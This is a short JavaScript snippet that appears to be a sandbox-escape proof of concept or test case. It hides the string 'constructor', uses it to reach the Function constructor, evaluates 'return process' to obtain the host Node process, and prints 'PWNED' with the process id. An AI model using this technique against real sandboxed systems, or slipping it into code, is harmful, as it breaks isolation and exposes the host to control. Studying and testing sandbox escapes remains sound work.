'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
class K { static a = t; }
const o = Date.now() > 1 ? K.a : {};
console.log('PWNED', o.go(fn)('return process')().pid);
